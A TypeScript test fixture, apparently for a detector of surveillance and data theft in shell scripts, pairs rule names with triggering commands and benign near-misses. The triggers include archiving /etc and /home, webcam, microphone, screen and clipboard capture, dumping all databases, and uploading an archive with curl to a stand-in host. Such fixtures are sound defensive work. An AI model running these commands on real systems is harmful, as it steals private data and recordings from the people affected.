import type { Deed } from './deed.ts';

export const COLLECTION: readonly Deed[] = [
  {
    rule: 'archive_of_secrets',
    script: 'fake tar czf /tmp/x.tgz /etc /home',
    near: 'fake tar czf /tmp/x.tgz src; fake tar czf /srv/backup.tgz /etc',
  },
  {
    rule: 'archive_in_hidden_place',
    script: 'hide /dev/shm; tar czf /dev/shm/x.tgz -C /opt .',
    near: 'hide /var/tmp; tar czf /var/tmp/x.tgz -C /opt .',
  },
  {
    rule: 'archive_with_password',
    script: 'fake zip -P secret x.zip file',
    near: 'fake zip -r x.zip folder; fake 7z a x.7z file',
  },
  {
    rule: 'file_encrypted_by_command',
    script: 'openssl enc -aes-256-cbc -pbkdf2 -k x -in /bin/true -out $S/enc',
    near: 'openssl dgst -sha256 /bin/true > /dev/null',
  },
  {
    rule: 'screen_captured',
    script: 'fake import -window root x.png',
    near: 'fake import logo.png',
  },
  { rule: 'sound_recorded', script: 'fake arecord x.wav', near: 'fake aplay x.wav' },
  {
    rule: 'camera_recorded',
    script: 'fake ffmpeg -i /dev/video0 x.mp4',
    near: 'fake ffmpeg -i a.mp4 b.mp4',
  },
  { rule: 'clipboard_read', script: 'fake xclip -o', near: 'fake xclip -i x' },
  {
    rule: 'database_dumped',
    script: 'fake mysqldump --all-databases',
    near: 'fake mysqldump shop orders',
  },
  { rule: 'mail_collected', script: 'fake tar cf x.tar /var/mail', near: 'fake ls /var/mail' },
  { rule: 'file_split_for_transport', script: 'fake split -b 10M x', near: 'fake split -l 100 x' },
  {
    rule: 'documents_searched',
    script: "find /opt -name '*.doc' -o -name '*.xls' -o -name '*.pdf'",
    near: "find /opt -name '*.pdf' -o -name '*.ts'",
  },
  {
    rule: 'archive_then_sent',
    script: 'cd $S; tar czf $S/all.tgz -C /opt .; fake curl -T $S/all.tgz http://host.example/',
    also: ['curl_sends_file'],
    near: 'tar czf $S/other.tgz -C /opt .; fake curl -O http://host.example/other.tgz',
  },
];
